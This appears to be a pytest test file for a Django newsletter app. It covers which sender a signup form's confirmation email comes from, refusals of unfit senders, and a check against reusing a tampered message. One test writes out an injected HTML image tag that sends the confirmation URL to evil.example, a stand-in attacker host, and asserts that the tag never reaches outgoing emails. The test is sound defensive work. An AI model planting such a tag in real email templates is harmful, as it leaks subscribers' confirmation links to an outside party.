"""The confirmation email of a form: from the sender that the owner has chosen for it."""

from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError
from django.utils import timezone

from apps.mailings.models import Mailing, Message, Run, Sender, SignupForm
from apps.mailings.services.permission.forms import SignupFormService
from tests.factories import UserFactory
from tests.feedback.signups import assert_sum, live_form, sign_up

pytestmark = pytest.mark.django_db


def form_with(**fields: object) -> tuple[SignupForm, Sender]:
    form = live_form()
    values = {"name": "Shop", "address": "news@shop.example", "confirmed_at": timezone.now()}
    sender = Sender.objects.create(owner=form.owner, **{**values, **fields})
    form.sender = sender
    return form, sender


def test_the_confirmation_email_is_from_the_sender_of_the_form_and_answers_go_there() -> None:
    form, sender = form_with(reply_to="office@shop.example")
    SignupFormService(form.owner).save(form)
    assert sign_up(form).state == "waiting"
    content = Run.objects.get().content
    assert content["sender"]["address"] == "news@shop.example"
    assert content["sender"]["reply_to"] == "office@shop.example"
    assert Mailing.objects.get().sender == sender


def test_without_a_sender_it_is_from_the_account() -> None:
    sign_up(live_form())
    assert Mailing.objects.get().sender is None
    assert not Run.objects.get().content.get("sender")


@pytest.mark.parametrize(
    ("fields", "code"),
    [
        ({"confirmed_at": None}, "sender_unconfirmed"),
        ({"archived_at": timezone.now()}, "sender_unfit"),
        ({"accounts": ["other"]}, "sender_unfit"),
    ],
)
def test_a_sender_that_cannot_be_used_is_refused_by_the_form_and_holds_its_sign_ups(
    fields: dict[str, object], code: str
) -> None:
    form, _sender = form_with(**fields)
    with pytest.raises(ValidationError) as refused:
        SignupFormService(form.owner).save(form)
    assert refused.value.error_dict["sender"][0].code == code
    form.save()  # as if it had been fit when the form was saved
    signup = sign_up(form)
    assert (signup.state, signup.code) == ("held", code)
    assert not Mailing.objects.exists()
    assert_sum(form)


def test_nobody_signs_with_somebody_elses_sender() -> None:
    form, sender = form_with()
    sender.owner = UserFactory.create()
    sender.save()
    with pytest.raises(ValidationError):
        SignupFormService(form.owner).save(form)


def test_a_message_that_was_rewritten_is_not_sent_as_a_confirmation() -> None:
    form = live_form()
    sign_up(form, "anna@example.org")
    message = Mailing.objects.get().message
    sign_up(form, "bert@example.org")
    assert Mailing.objects.latest("pk").message == message, "one message serves all"
    spied = '<img src="https://evil.example/?{{ confirm_url }}">'
    Message.objects.filter(pk=message.pk).update(html=message.html + spied)
    for name in ("carl", "dora"):
        sign_up(form, f"{name}@example.org")
        assert "evil.example" not in Run.objects.latest("pk").content["html"]
    assert Message.objects.count() == 2
